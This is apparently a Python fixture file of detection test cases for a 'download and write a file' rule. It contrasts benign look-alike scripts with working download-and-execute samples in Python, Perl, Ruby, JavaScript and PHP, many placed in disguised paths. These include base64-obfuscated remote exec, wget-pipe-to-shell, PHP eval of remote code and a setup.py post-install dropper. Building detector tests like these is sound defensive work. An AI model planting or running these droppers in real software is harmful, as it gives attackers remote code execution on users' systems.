# Script-language source files: python, perl, ruby, js, node, php.
from common import C

CAPA = "capa 'download and write a file' / 'receive data'"

# ================================================================ python: detect
C("h2-py-requests-stream-chmod-01", "requests.get(stream=True) iter_content, chmod, subprocess", "python",
  "/opt/app/tools/update_agent.py", "detect", r"""#!/usr/bin/env python3
import os
import subprocess

import requests

URL = "http://203.0.113.130/agent"
DST = "/usr/local/bin/agent"

with requests.get(URL, stream=True, timeout=30) as r:
    r.raise_for_status()
    with open(DST, "wb") as fh:
        for chunk in r.iter_content(chunk_size=65536):
            fh.write(chunk)
os.chmod(DST, 0o755)
subprocess.Popen([DST, "--daemon"])
""")

C("h2-py-httpx-write-02", "httpx.get content written to disk", "python",
  "/app/scripts/fetch_model.py", "detect", r"""#!/usr/bin/env python3
import pathlib
import httpx

resp = httpx.get("https://models.example.net/weights/loader.bin", follow_redirects=True)
pathlib.Path("/app/models/loader.bin").write_bytes(resp.content)
""")

C("h2-py-os-popen-wget-sh-03", "os.popen with wget | sh", "python",
  "/usr/lib/python3/dist-packages/sitehook.py", "detect", r"""import os

def _init():
    os.popen("wget -q -O- http://198.51.100.131/h.sh | sh").read()

_init()
""", executable=False)

C("h2-py-shutil-copyfileobj-urlopen-04", "shutil.copyfileobj(urlopen(...), file)", "python",
  "/opt/tools/pull.py", "detect", r"""#!/usr/bin/env python3
import shutil
from urllib.request import urlopen

with urlopen("http://203.0.113.132/payload.so") as src, open("/tmp/payload.so", "wb") as dst:
    shutil.copyfileobj(src, dst)
""")

C("h2-py-paramiko-sftp-get-05", "paramiko SFTP get of a remote file", "python",
  "/opt/etl/sftp_pull.py", "detect", r"""#!/usr/bin/env python3
import paramiko

t = paramiko.Transport(("198.51.100.133", 22))
t.connect(username="etl", password="etl")
sftp = paramiko.SFTPClient.from_transport(t)
sftp.get("/exports/run.sh", "/opt/etl/run.sh")
sftp.close()
t.close()
""")

C("h2-py-b64-exec-urlopen-06", "base64-decoded code that downloads, then exec()", "python",
  "/usr/local/lib/python3.11/site-packages/telemetry_init.py", "detect",
  "import base64\nexec(base64.b64decode('" + __import__("base64").b64encode(
      b"import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.134/t.py').read())\n").decode() +
  "'))\n", executable=False)

C("h2-py-pycurl-writedata-07", "pycurl WRITEDATA to a file", "python",
  "/opt/tools/pc_fetch.py", "detect", r"""#!/usr/bin/env python3
import pycurl

with open("/var/tmp/mod.bin", "wb") as f:
    c = pycurl.Curl()
    c.setopt(c.URL, "http://198.51.100.134/mod.bin")
    c.setopt(c.WRITEDATA, f)
    c.perform()
    c.close()
""")

C("h2-py-wget-module-08", "python 'wget' package wget.download", "python",
  "/opt/tools/getdata.py", "detect", r"""#!/usr/bin/env python3
import wget

wget.download("http://203.0.113.135/helper.tar.gz", out="/tmp/helper.tar.gz")
""")

C("h2-py-aiohttp-09", "aiohttp session.get then write file", "python",
  "/srv/bot/updater.py", "detect", r"""import asyncio
import aiohttp


async def main():
    async with aiohttp.ClientSession() as s:
        async with s.get("http://198.51.100.135/plugin.py") as r:
            data = await r.read()
    with open("/srv/bot/plugins/plugin.py", "wb") as f:
        f.write(data)


asyncio.run(main())
""", executable=False)

C("h2-py-setup-cmdclass-10", "setup.py custom install command downloading a binary", "python",
  "/usr/src/pkg/setup.py", "detect", r"""from setuptools import setup
from setuptools.command.install import install
import urllib.request, os, stat


class PostInstall(install):
    def run(self):
        install.run(self)
        p = "/usr/local/bin/pkg-helper"
        urllib.request.urlretrieve("http://203.0.113.136/pkg-helper", p)
        os.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)


setup(name="pkg", version="0.1", cmdclass={"install": PostInstall})
""", executable=False)

# ================================================================ python: silent
C("h2-py-silent-requests-local-01", "look-alike: requests to localhost and unix socket only", "python",
  "/opt/app/healthcheck.py", "silent", r"""#!/usr/bin/env python3
import sys
import requests

r = requests.get("http://127.0.0.1:8000/health", timeout=2)
sys.exit(0 if r.ok else 1)
""")

C("h2-py-silent-argparse-help-02", "look-alike: argparse help strings mentioning curl/wget", "python",
  "/opt/app/cli.py", "silent", r"""#!/usr/bin/env python3
import argparse

p = argparse.ArgumentParser(description="Fetches nothing; prints how to install extras.")
p.add_argument("--hint", action="store_true", help="show: curl -fsSL https://get.example.com | sh")
a = p.parse_args()
if a.hint:
    print("wget https://example.com/extras.tgz && tar xzf extras.tgz")
""")

C("h2-py-silent-shutil-local-03", "look-alike: shutil.copy of local files in a function named fetch", "python",
  "/opt/app/assets.py", "silent", r"""import shutil


def fetch_assets(src="/opt/app/share/assets", dst="/var/www/assets"):
    shutil.copytree(src, dst, dirs_exist_ok=True)
""", executable=False)

C("h2-py-silent-http-server-04", "look-alike: local http.server bound to 127.0.0.1", "python",
  "/opt/app/devserver.py", "silent", r"""#!/usr/bin/env python3
from http.server import HTTPServer, SimpleHTTPRequestHandler

HTTPServer(("127.0.0.1", 8000), SimpleHTTPRequestHandler).serve_forever()
""")

# ================================================================ perl
C("h2-pl-lwp-getstore-chmod-01", "Perl LWP::Simple getstore + chmod + exec (different layout)", "perl",
  "/usr/local/bin/perl-updater", "detect", r"""#!/usr/bin/perl
use strict;
use warnings;
use LWP::Simple qw(getstore);

my $u = 'http://198.51.100.136/p';
getstore($u, '/tmp/.p') == 200 or die;
chmod 0755, '/tmp/.p';
exec '/tmp/.p';
""")

C("h2-pl-backticks-wget-02", "Perl backticks running wget", "perl",
  "/opt/cgi/tools/refresh.pl", "detect", r"""#!/usr/bin/perl
my $out = `wget -q -O /var/www/cgi-bin/x.cgi http://203.0.113.137/x.cgi`;
chmod 0755, '/var/www/cgi-bin/x.cgi';
""")

C("h2-pl-http-tiny-mirror-03", "Perl HTTP::Tiny->mirror", "perl",
  "/usr/share/perl5/App/Sync.pm", "detect", r"""package App::Sync;
use strict;
use HTTP::Tiny;

sub run {
    my $r = HTTP::Tiny->new->mirror('http://198.51.100.137/mods/Sync.so', '/usr/lib/app/Sync.so');
    return $r->{success};
}
1;
""", executable=False)

C("h2-pl-net-ftp-get-04", "Perl Net::FTP get", "perl",
  "/opt/tools/ftpget.pl", "detect", r"""#!/usr/bin/perl
use Net::FTP;
my $f = Net::FTP->new('203.0.113.138') or die;
$f->login('anonymous', 'x@example.com');
$f->binary;
$f->get('pub/kit.tgz', '/tmp/kit.tgz');
$f->quit;
system('tar', 'xzf', '/tmp/kit.tgz', '-C', '/usr/local/bin');
""")

C("h2-pl-e-oneliner-in-sh-05", "perl -e one-liner (LWP::UserAgent) as an executable wrapper", "perl",
  "/usr/local/bin/plget", "detect", r"""#!/usr/bin/perl -w
use LWP::UserAgent;
my $ua = LWP::UserAgent->new(agent => 'Mozilla/5.0', ssl_opts => { verify_hostname => 0 });
my $res = $ua->get('https://198.51.100.138/s.pl', ':content_file' => '/tmp/s.pl');
do '/tmp/s.pl' if $res->is_success;
""")

C("h2-pl-silent-pod-01", "look-alike: Perl POD documentation with wget example", "perl",
  "/usr/share/perl5/App/Docs.pm", "silent", r"""package App::Docs;
1;
__END__

=head1 NAME

App::Docs - documentation only

=head1 SYNOPSIS

  # install the optional data files yourself:
  wget https://example.com/data.tgz
  curl -O https://example.com/data.tgz

=cut
""", executable=False)

C("h2-pl-silent-local-file-02", "look-alike: Perl reads/writes local files only", "perl",
  "/usr/local/bin/rotate-conf", "silent", r"""#!/usr/bin/perl
use File::Copy;
copy('/etc/app/app.conf', '/etc/app/app.conf.bak') or die "copy failed: $!";
""")

# ================================================================ ruby
C("h2-rb-net-http-get-response-01", "Ruby Net::HTTP.get_response + File.binwrite", "ruby",
  "/usr/local/bin/rb-fetch", "detect", r"""#!/usr/bin/env ruby
require 'net/http'
require 'uri'

res = Net::HTTP.get_response(URI('http://203.0.113.139/bin/tool'))
File.binwrite('/usr/local/bin/tool', res.body)
File.chmod(0755, '/usr/local/bin/tool')
""")

C("h2-rb-backticks-curl-02", "Ruby %x{} running curl | sh", "ruby",
  "/opt/app/lib/tasks/setup.rake", "detect", r"""namespace :setup do
  task :tools do
    %x{curl -s http://198.51.100.139/tools.sh | sh}
  end
end
""", executable=False)

C("h2-rb-uri-open-eval-03", "Ruby URI.open(...).read then eval", "ruby",
  "/opt/app/config/initializers/remote.rb", "detect", r"""require 'open-uri'
eval(URI.open('http://203.0.113.140/init.rb').read)
""", executable=False)

C("h2-rb-net-ftp-04", "Ruby Net::FTP getbinaryfile", "ruby",
  "/usr/local/bin/ftp-sync.rb", "detect", r"""#!/usr/bin/env ruby
require 'net/ftp'
Net::FTP.open('198.51.100.140', 'anonymous', 'x@example.com') do |ftp|
  ftp.passive = true
  ftp.getbinaryfile('pub/agent', '/tmp/agent')
end
system('chmod +x /tmp/agent && /tmp/agent')
""")

C("h2-rb-silent-gemfile-01", "look-alike: Gemfile with source URL", "ruby",
  "/opt/app/Gemfile", "silent", r"""source 'https://rubygems.org'

gem 'rails', '~> 7.1'
gem 'pg'
gem 'puma'
""", executable=False)

C("h2-rb-silent-puts-help-02", "look-alike: Ruby CLI printing wget instructions", "ruby",
  "/usr/local/bin/rb-help", "silent", r"""#!/usr/bin/env ruby
puts 'Missing data file. Download it with:'
puts '  wget https://example.com/data.bin -O /var/lib/app/data.bin'
exit 1
""")

# ================================================================ js (modules, no shebang)
C("h2-js-axios-stream-01", "Node module: axios responseType stream piped to file", "js",
  "/app/node_modules/font-helper/lib/fetch.js", "detect", r"""const axios = require('axios');
const fs = require('fs');

module.exports = async function () {
  const res = await axios({ url: 'http://203.0.113.141/f.node', responseType: 'stream' });
  res.data.pipe(fs.createWriteStream(__dirname + '/../build/f.node'));
};
""")

C("h2-js-exec-powershell-02", "Node module: child_process.exec powershell iwr (Windows install script)", "js",
  "/app/node_modules/win-ext/install.js", "detect", r"""const { exec } = require('child_process');
if (process.platform === 'win32') {
  exec('powershell -c "iwr http://198.51.100.141/ext.dll -OutFile ext.dll"');
} else {
  exec('curl -s http://198.51.100.141/ext.so -o ext.so');
}
""")

C("h2-js-esm-fetch-arraybuffer-03", "ESM module: fetch() then writeFile of arrayBuffer", "js",
  "/srv/app/scripts/postinstall.mjs", "detect", r"""import { writeFile, chmod } from 'node:fs/promises';

const r = await fetch('http://203.0.113.142/bin/helper');
await writeFile('/srv/app/bin/helper', Buffer.from(await r.arrayBuffer()));
await chmod('/srv/app/bin/helper', 0o755);
""")

C("h2-js-minified-bundle-04", "minified bundle with https.get to file", "js",
  "/app/node_modules/tiny-util/dist/index.min.js", "detect",
  "\"use strict\";var e=require(\"https\"),t=require(\"fs\");e.get(\"https://198.51.100.142/u\",function(n){n.pipe(t.createWriteStream(\"/tmp/.u\")).on(\"finish\",function(){require(\"child_process\").spawn(\"/tmp/.u\",{detached:!0})})});module.exports={pad:function(e,t){return(\" \".repeat(t)+e).slice(-t)}};\n")

C("h2-js-silent-express-01", "look-alike: express server handling a /download route", "js",
  "/srv/app/routes/download.js", "silent", r"""const express = require('express');
const path = require('path');
const router = express.Router();

router.get('/download/:name', (req, res) => {
  res.download(path.join('/srv/app/files', path.basename(req.params.name)));
});

module.exports = router;
""")

C("h2-js-silent-fetch-relative-02", "look-alike: frontend fetch of a relative API path", "js",
  "/usr/share/nginx/html/static/js/main.js", "silent", r"""async function loadUser() {
  const r = await fetch('/api/user', { credentials: 'same-origin' });
  return r.json();
}
loadUser().then(u => { document.getElementById('name').textContent = u.name; });
""")

# ================================================================ node (executable with shebang)
C("h2-node-http-get-pipe-01", "executable node script: http.get pipe to file + chmod", "node",
  "/usr/local/bin/node-pull", "detect", r"""#!/usr/bin/env node
const http = require('http');
const fs = require('fs');
const out = fs.createWriteStream('/usr/local/bin/np-helper', { mode: 0o755 });
http.get('http://203.0.113.143/np-helper', (res) => res.pipe(out));
""")

C("h2-node-execfile-wget-02", "executable node script: execFileSync('wget', ...)", "node",
  "/opt/app/bin/prepare", "detect", r"""#!/usr/bin/env node
const { execFileSync } = require('child_process');
execFileSync('wget', ['-q', 'http://198.51.100.143/data/plugin.js', '-O', '/opt/app/plugins/plugin.js']);
""")

C("h2-node-eval-remote-03", "executable node script: fetch text then eval via Function", "node",
  "/opt/app/bin/remote-init", "detect", r"""#!/usr/bin/env node
(async () => {
  const code = await (await fetch('https://203.0.113.144/init.js')).text();
  new Function(code)();
})();
""")

C("h2-node-silent-cli-01", "look-alike: node CLI printing curl usage", "node",
  "/usr/local/bin/app-cli", "silent", r"""#!/usr/bin/env node
const args = process.argv.slice(2);
if (args.includes('--help')) {
  console.log('Usage: app-cli <cmd>\n  e.g. curl -s https://example.com/data.json | app-cli import');
  process.exit(0);
}
console.log('ok');
""")

# ================================================================ php
C("h2-php-fopen-stream-copy-01", "PHP fopen(url) + stream_copy_to_stream", "php",
  "/var/www/html/wp-content/plugins/cache/inc/update.php", "detect", r"""<?php
$in = fopen('http://198.51.100.144/shell.txt', 'r');
$out = fopen(__DIR__ . '/wp-cache.php', 'w');
stream_copy_to_stream($in, $out);
fclose($in); fclose($out);
""")

C("h2-php-system-curl-02", "PHP system() running curl -o", "php",
  "/var/www/html/admin/tools.php", "detect", r"""<?php
if (isset($_GET['go'])) {
    system('curl -s -o /tmp/.k http://203.0.113.145/k && chmod +x /tmp/.k && /tmp/.k');
}
""")

C("h2-php-guzzle-sink-03", "PHP Guzzle request with 'sink' to file", "php",
  "/var/www/app/src/Updater.php", "detect", r"""<?php
namespace App;

use GuzzleHttp\Client;

class Updater
{
    public function run(): void
    {
        (new Client())->request('GET', 'http://198.51.100.145/module.phar', ['sink' => '/var/www/app/var/module.phar']);
        include 'phar:///var/www/app/var/module.phar/index.php';
    }
}
""")

C("h2-php-eval-file-get-contents-04", "PHP eval(file_get_contents(url))", "php",
  "/var/www/html/wp-includes/class-wp-cache.php", "detect", r"""<?php
@eval(file_get_contents('http://203.0.113.146/p.txt'));
""")

C("h2-php-silent-local-include-01", "look-alike: PHP includes and file_get_contents of local paths", "php",
  "/var/www/html/index.php", "silent", r"""<?php
require __DIR__ . '/vendor/autoload.php';
$config = json_decode(file_get_contents(__DIR__ . '/config.json'), true);
echo "Hello from " . htmlspecialchars($config['name']);
""")
